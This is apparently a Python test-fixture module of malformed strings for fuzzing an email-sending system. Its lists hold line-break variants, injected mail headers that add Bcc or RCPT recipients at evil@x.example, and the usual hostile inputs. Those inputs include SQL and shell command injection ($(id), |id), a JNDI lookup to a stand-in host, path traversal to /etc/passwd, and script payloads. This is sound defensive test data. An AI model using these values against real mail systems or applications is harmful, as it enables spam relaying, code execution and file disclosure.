"""Strings that have broken headers, recipients, names of files and pages elsewhere. Written for these tests, after what is known of each kind."""

BREAKS = [
    "\r\n", "\n", "\r", "\r\n ", "\r\n\t", "\n ", "\n\n", "\r\n\r\n", "\n\r", "\r\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\0",
    "%0d%0a", "%0A", "\\r\\n", "\u560d\u560a", "\uff0d\uff0a", "&#13;&#10;", "=0D=0A", "\x00\r\n", "\u200b\r\n", "\ufeff\n", "\x1b\n",
]
INJECTED = [
    "Bcc: evil@x.example", "Cc: evil@x.example", "To: evil@x.example", "From: ceo@x.example", "Reply-To: evil@x.example", "Subject: other",
    "Content-Type: text/html", "MIME-Version: 2.0", "Content-Transfer-Encoding: 8bit", "Resent-To: evil@x.example", "X-Y: z", ".\r\nRCPT TO:<evil@x.example>",
    "--=_boundary--", "DKIM-Signature: v=1", "Return-Path: <evil@x.example>", "<script>alert(1)</script>", "Date: Thu, 1 Jan 1970 00:00:00 +0000",
]
WORDS = [
    "undefined", "null", "None", "NaN", "Infinity", "true", "-1", "0x0", "1e999", "1/0", "0", "''", '""', '"', "'", "`", "\\", "\\\\", '\\"', "//", "/*", "--", "-- ", "#", ";", ",",
    "a,b@c.example", "a;b@c.example", "<a@b.example>", '"a" <b@c.example>', "a@b.example, c@d.example", "undisclosed-recipients:;", "group: a@b.example, c@d.example;",
    "=?utf-8?Q?=0D=0ABcc:_x@y.example?=", "=?utf-8?B?DQpCY2M6IGV2aWxAeC5leGFtcGxl?=", "=?utf-8?Q?a?= =?utf-8?Q?b?=", "=?", "?=", "=?x?y?z?=", "=?utf-8?B??=", "=?utf-7?Q?+AA0ACg-?=",
    "\u202eexe.fdp", "\u202a\u202b\u202c\u202d", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\u2060", "\ufeffbom", "\ufffe", "\uffff", "\ud7ff\ue000", "\U000e0001", "\U0001f600" * 30,
    "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "مرحبا", "שלום", "ﷺ", "Z̴a̵l̶g̷o̸", "e\u0301" * 50, "ﬃ", "Ⅷ", "İI", "ß", "ǅ", "\u1e9e", "ＡＢＣ＠ＥＸＡＭＰＬＥ", "例え@例え.テスト", "пример@пример.рф",
    "' OR 1=1 --", "1; drop table mail_out", "{{7*7}}", "${jndi:ldap://x.example}", "{0}", "{number}", "{brand.__class__}", "%s%s%s%n", "%d", "$(id)", "`id`", "|id", "&&id",
    "../../etc/passwd", "..\\..\\boot.ini", "C:\\con\\con", "con", "nul", "aux.txt", ".htaccess", "file.", "file ", " file", "~root", "/dev/null", "file:///etc/passwd",
    "javascript:alert(1)", "data:text/html,x", "<img src=x onerror=alert(1)>", "<b>", "]]>", "<!--", "-->", "<?xml?>", "<!DOCTYPE x>", "&lt;b&gt;", "&#0;", "&nbsp;", "<style>*{}</style>",
    "\x01\x02\x03\x04\x05\x06\x07\x08", "\x7f", "\x80\x81", "\t", " ", "", "  x  ", "\u3000", "\u00a0", "\u1680", "\u180e", "\u2000\u2001", "a" * 1000, "长" * 500, "a " * 400, ("x" * 76 + " ") * 5,
    "Subject", "Bcc", "postmaster", "mailer-daemon", "root", "admin", "noreply", "[FRL-2026-000001]", "Re: Re: Re:", "Fwd:", "SPAM", "***", "!!!", "???", "(comment)", "(unclosed", ")", "[", "]", ":", ": ", "::", "@", "@@",
]
NAUGHTY = [*WORDS, *(f"x{cut}{line}" for cut in BREAKS for line in INJECTED)]
